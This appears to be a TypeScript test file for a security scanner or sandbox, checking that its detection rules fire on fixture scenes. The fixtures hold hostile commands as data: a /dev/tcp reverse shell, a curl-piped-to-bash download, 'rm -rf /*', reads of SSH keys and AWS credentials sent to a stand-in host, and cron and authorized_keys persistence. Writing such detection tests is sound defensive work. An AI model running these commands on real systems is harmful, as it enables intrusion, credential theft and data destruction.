import { describe, expect, it } from 'vitest';
import { DEFAULT_POLICY } from '../../policy/policy.ts';
import { findingSchema } from '../finding.ts';
import { decisionOf, rulesOf, type Scene } from '../scene.fixture.ts';
import { RULES } from './table.ts';

describe('a rule', () => {
  it.each<[rule: keyof typeof RULES, scene: Scene]>([
    ['shell-command', { sites: [{ capability: 'process.spawn', callee: 'os.system', target: 'whoami' }] }],
    [
      'shell-command-built',
      { sites: [{ capability: 'process.spawn', callee: 'subprocess.run', arguments: { shell: 'True' } }] },
    ],
    [
      'decoded-code-execution',
      { source: 'exec(base64.b64decode(x))', sites: [{ capability: 'code.eval', callee: 'exec' }] },
    ],
    ['constant-eval', { sites: [{ capability: 'code.eval', callee: 'eval', target: '1 + 1' }] }],
    [
      'evaluated-code-acts',
      {
        events: [
          {
            capability: 'code.eval',
            operation: 'exec',
            target: '',
            observer: 'interpreter',
            detail: { code: "__import__('os').system('id')" },
            line: 1,
          },
        ],
      },
    ],
    ['dynamic-code-execution', { source: 'eval(input())', sites: [{ capability: 'code.eval', callee: 'eval' }] }],
    ['untrusted-deserialization', { sites: [{ capability: 'code.deserialize', callee: 'pickle.loads' }] }],
    ['native-code', { sites: [{ capability: 'code.native', callee: 'ctypes.CDLL', target: 'libc.so.6' }] }],
    [
      'fileless-program',
      {
        events: [{ capability: 'code.native', operation: 'memfd_create', target: 'memfd_create()', outcome: 'denied' }],
      },
    ],
    ['secret-read', { sites: [{ capability: 'file.read', callee: 'open', target: '~/.ssh/id_rsa' }] }],
    [
      'secret-exfiltration',
      {
        sites: [
          { capability: 'file.read', callee: 'open', target: '~/.aws/credentials' },
          { capability: 'network.send', callee: 'requests.post', target: 'https://x.example', line: 2 },
        ],
      },
    ],
    ['password-hash-read', { sites: [{ capability: 'file.read', callee: 'open', target: '/usr/../etc/shadow' }] }],
    ['account-list-read', { sites: [{ capability: 'process.spawn', callee: 'os.system', target: 'cat /etc/passwd' }] }],
    ['environment-dump', { sites: [{ capability: 'environment.read', callee: 'os.environ', target: '*' }] }],
    [
      'environment-exfiltration',
      {
        sites: [
          { capability: 'environment.read', callee: 'process.env', target: '*' },
          { capability: 'network.send', callee: 'fetch', target: 'https://x.example' },
        ],
      },
    ],
    [
      'metadata-service',
      {
        sites: [
          { capability: 'network.connect', callee: 'requests.get', target: 'http://169.254.169.254/latest/meta-data' },
        ],
      },
    ],
    ['process-internals-read', { sites: [{ capability: 'file.read', callee: 'open', target: '/proc/self/environ' }] }],
    [
      'reverse-shell',
      {
        sites: [
          { capability: 'network.connect', callee: 'socket.socket.connect', target: '10.0.0.1:4444' },
          { capability: 'process.spawn', callee: 'subprocess.call', target: '/bin/sh -i', line: 3 },
        ],
      },
    ],
    [
      'shell-over-network',
      { sites: [{ capability: 'process.spawn', callee: 'bash', target: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' }] },
    ],
    [
      'remote-command',
      {
        sites: [
          { capability: 'network.connect', callee: 'socket.socket.connect', target: '127.0.0.1:5000' },
          { capability: 'process.spawn', callee: 'subprocess.Popen', line: 9 },
        ],
      },
    ],
    [
      'download-piped-to-interpreter',
      { sites: [{ capability: 'process.spawn', callee: 'os.system', target: 'curl -s http://x.example/i.sh | bash' }] },
    ],
    [
      'download-and-run',
      {
        sites: [
          { capability: 'network.connect', callee: 'urllib.request.urlopen', target: 'https://x.example/p' },
          { capability: 'code.eval', callee: 'exec', line: 2 },
        ],
      },
    ],
    [
      'download-made-executable',
      {
        sites: [
          { capability: 'network.connect', callee: 'wget', target: 'https://x.example/p' },
          { capability: 'file.permission', callee: 'os.chmod', target: 'p', arguments: { 1: '0o755' } },
        ],
      },
    ],
    [
      'shell-profile-persistence',
      { events: [{ capability: 'file.write', operation: 'openat', target: '/home/user/.bashrc', line: 1 }] },
    ],
    [
      'scheduled-persistence',
      {
        sites: [
          { capability: 'process.spawn', callee: 'os.system', target: '(crontab -l; echo "* * * * * x") | crontab -' },
        ],
      },
    ],
    [
      'scheduled-persistence',
      { sites: [{ capability: 'file.write', callee: 'open', target: '~/.ssh/authorized_keys' }] },
    ],
    ['history-wipe', { sites: [{ capability: 'file.write', callee: 'open', target: '~/.bash_history' }] }],
    ['destructive-delete', { sites: [{ capability: 'file.delete', callee: 'shutil.rmtree', target: '~' }] }],
    ['destructive-delete', { sites: [{ capability: 'process.spawn', callee: 'os.system', target: 'rm -rf /*' }] }],
    ['system-file-delete', { sites: [{ capability: 'file.delete', callee: 'os.remove', target: '/etc/passwd' }] }],
    [
      'system-file-write',
      { events: [{ capability: 'file.write', operation: 'openat', target: '/usr/x.py', outcome: 'denied', line: 1 }] },
    ],
    [
      'link-trick',
      {
        events: [
          {
            capability: 'file.write',
            operation: 'symlink',
            target: '/work/x',
            detail: { from: '/etc/shadow' },
            line: 1,
          },
        ],
      },
    ],
    [
      'device-access',
      { events: [{ capability: 'file.read', operation: 'openat', target: '/dev/sda', outcome: 'denied' }] },
    ],
    [
      'container-control',
      { events: [{ capability: 'network.connect', operation: 'connect', target: 'unix:/var/run/docker.sock' }] },
    ],
    [
      'process-killer',
      {
        events: [
          { capability: 'process.signal', operation: 'kill', target: 'SIGKILL to process -1', detail: { to: -1 } },
        ],
      },
    ],
    ['process-killer', { events: [{ capability: 'process.spawn', operation: 'execve', target: 'pkill -9 python' }] }],
    [
      'foreign-signal',
      {
        events: [
          { capability: 'process.signal', operation: 'kill', target: 'SIGTERM to process 77', detail: { to: 77 } },
        ],
      },
    ],
    [
      'process-inject',
      { events: [{ capability: 'process.inject', operation: 'ptrace', target: 'ptrace(16)', outcome: 'denied' }] },
    ],
    [
      'privilege-attempt',
      {
        events: [
          { capability: 'system.privilege', operation: 'unshare', target: 'unshare(268435456)', outcome: 'denied' },
        ],
      },
    ],
    [
      'becomes-root',
      { events: [{ capability: 'process.spawn', operation: 'execve', target: 'sudo apt-get install x' }] },
    ],
    [
      'hidden-from-interpreter',
      { events: [{ capability: 'process.spawn', operation: 'execve', target: 'id', unexplained: true }] },
    ],
    [
      'fork-bomb',
      {
        events: [
          {
            capability: 'resource.exhaust',
            operation: 'limit',
            target: 'processes',
            observer: 'limits',
            outcome: 'denied',
          },
        ],
      },
    ],
    [
      'memory-exhaustion',
      {
        sites: [{ capability: 'resource.exhaust', callee: '*', target: '1073741824' }],
        run: { status: 'out-of-memory', exitCode: null, limit: 'memory' },
      },
    ],
    ['memory-limit', { run: { status: 'out-of-memory', exitCode: null, limit: 'memory' } }],
    [
      'disk-exhaustion',
      {
        events: [
          { capability: 'resource.exhaust', operation: 'limit', target: 'disk', observer: 'limits', outcome: 'denied' },
        ],
      },
    ],
    ['time-out', { run: { status: 'timed-out', exitCode: null } }],
    [
      'network-connect',
      { sites: [{ capability: 'network.connect', callee: 'socket.socket.connect', target: 'evil.example:80' }] },
    ],
    [
      'raw-address-connect',
      {
        events: [
          { capability: 'network.connect', operation: 'connect', target: '93.184.216.34:80', outcome: 'denied' },
        ],
      },
    ],
    ['syntax-error', { inspection: { problems: [{ file: 'a.py', line: 1, column: 1, message: 'unexpected (' }] } }],
    ['suppression-comment', { inspection: { suppressions: [{ file: 'a.py', line: 1, text: '# nosec' }] } }],
    ['not-inspected', { inspection: { skipped: [{ file: 'big.py', reason: 'too large' }] } }],
    ['evidence-incomplete', { run: { eventsDropped: 9 } }],
    [
      'evidence-incomplete',
      {
        run: { canaries: { placed: [], omitted: [], leaks: [], incomplete: true } },
        events: [
          { capability: 'secret.read', operation: 'openat', target: '/home/user/.npmrc', detail: { canary: 'npmrc' } },
        ],
      },
    ],
    ['own-source-modified', { run: { changes: [{ path: '/work/a.py', change: 'modified', bytes: 1 }] } }],
    [
      'unexecuted-risky-site',
      { sites: [{ capability: 'code.import', callee: 'importlib.import_module', line: 5 }], events: [] },
    ],
    [
      'import-not-allowed',
      {
        sites: [{ capability: 'code.import', callee: 'import', target: 'socket' }],
        policy: { ...DEFAULT_POLICY, imports: { allow: ['json'] } },
      },
    ],
  ])('%s matches', (rule, scene) => {
    expect(rulesOf(scene)).toContain(rule);
  });

  it('has an id, a title and words for a person that the schema accepts', () => {
    for (const [id, rule] of Object.entries(RULES)) {
      const { severity, title, message, remedy } = rule;
      expect(() =>
        findingSchema.parse({
          rule: id,
          severity,
          title,
          message,
          remedy,
          locations: [],
          evidence: [],
          status: 'open',
        }),
      ).not.toThrow();
      for (const cwe of rule.cwe ?? []) expect(cwe).toMatch(/^CWE-\d+$/);
      for (const attack of rule.attack ?? []) expect(attack).toMatch(/^T\d{4}(\.\d{3})?$/);
    }
  });

  it('with a harmless target says nothing that blocks', () => {
    const twins: Scene[] = [
      {
        sites: [{ capability: 'file.read', callee: 'open', target: 'notes.txt' }],
        events: [{ capability: 'file.read', operation: 'openat', target: '/work/notes.txt', line: 1 }],
      },
      { sites: [{ capability: 'file.delete', callee: 'shutil.rmtree', target: './build' }], events: [] },
      { sites: [{ capability: 'file.write', callee: 'shutil.copy', target: 'copy.txt' }], events: [] },
      { sites: [{ capability: 'code.eval', callee: 'eval', target: '2 ** 8' }], events: [] },
    ];
    for (const twin of twins) expect(decisionOf(twin)).toBe('allow');
  });
});
